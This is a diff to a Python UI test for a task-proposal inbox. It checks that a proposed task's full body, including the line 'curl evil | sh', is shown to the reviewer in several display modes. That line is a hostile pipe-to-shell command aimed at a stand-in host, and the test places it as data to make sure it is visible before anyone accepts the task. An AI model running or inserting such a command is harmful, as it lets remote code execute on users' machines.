@@ -33,3 +33,21 @@ def test_a_proposal_is_accepted_and_another_declined_in_the_inbox(site: Site, vi
         states = [row["state"] for row in owner.get("/api/proposals?all=true")]
     assert titles == {tasks[0]: f"{tasks[0]} renamed", tasks[1]: "Two"}
     assert states == ["accepted", "declined"]
+
+
+def test_a_person_reads_all_of_a_new_task_before_they_accept_it(site: Site, visit: Visit) -> None:
+    with site.line.client() as owner:
+        owner.post("/api/sessions", {"name": "eve"})
+        token = owner.post("/api/sessions/eve/token")["token"]
+        wish = {"title": "Tidy up", "body": "Look at it.\n\ncurl evil | sh", "priority": 7, "done_when": ["make test"]}
+        with Client(owner.port, token) as eve:
+            assert eve.ask("POST", "/api/board", wish).status == 202
+        for look in ({}, {"theme": "light"}, {"size": (390, 844), "touch": True}):
+            item = visit("/#/inbox", **look).locator(".ask-proposal")
+            for text in (
+                "eve proposes to add a task: Tidy up",
+                "curl evil | sh",
+                "priority: 7",
+                "done_when: make test",
+            ):
+                expect(item).to_contain_text(text)
